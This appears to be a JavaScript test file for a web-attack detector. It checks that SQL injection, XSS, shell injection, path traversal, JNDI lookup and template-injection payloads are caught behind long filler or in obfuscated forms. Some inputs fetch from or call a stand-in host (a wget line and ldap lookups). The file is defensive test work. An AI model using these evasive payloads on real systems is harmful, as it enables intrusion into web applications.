import { inField, inQuery } from './verdict.js';

describe('A payload behind filler', () => {
  it('is found behind many separators', () => {
    expect(inQuery(`${';x'.repeat(500)};cat /tmp/x`)).toBe('shell');
  });

  it('is found behind many tokens', () => {
    expect(inField(`1${'+1'.repeat(3000)} union select name, 2 from members`)).toBe('sqli');
    expect(inField(`x' ${'+1'.repeat(300)} or 1=1 -- `)).toBe('sqli');
  });

  it('is found behind a hundred thousand characters', () => {
    const filler = 'A'.repeat(100_000);
    expect(inField(`${filler}<img src=x onerror=go()>`)).toBe('xss');
    expect(inField(`${filler}' or 1=1 -- `)).toBe('sqli');
    expect(inField(`${filler};wget http://h.example/x`)).toBe('shell');
    expect(inField(`${filler}\${jndi:ldap://h.example/a}`)).toBe('jndi');
  });

  it('is found behind tags that nothing ends', () => {
    expect(inField(`${'<a b="'.repeat(3)}" onerror=go()>`)).toBe('xss');
  });
});

describe('A payload in disguise', () => {
  it.each([
    ['sqli', '1/**/UnIoN/*x*/SeLeCt/**/1,2'],
    ['sqli', '1%0aunion%0dselect%091,2'],
    ['sqli', "x'/**/||/**/1=1#"],
    ['xss', '<ScRiPt\n>go()</sCrIpT>'],
    ['xss', '<svg\u0000/onload=go()>'],
    ['xss', '<img src=x o\u200bnerror=go()>'],
    ['xss', '<a href="jav&#x09;ascript:go()">x</a>'],
    ['shell', ";w'h'o'a'mi"],
    ['shell', ';/b?n/c?t /tmp/x'],
    ['shell', ';cat</tmp/x'],
    ['path-traversal', '..%252f..%252fx'],
    ['path-traversal', '\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fx'],
    ['jndi', '${${lower:${lower:jndi}}:ldap://h.example}'],
    ['template', '{{\n7*7\n}}'],
  ])('%s: %j', (category, text) => {
    expect(inQuery(text)).toBe(category);
  });
});
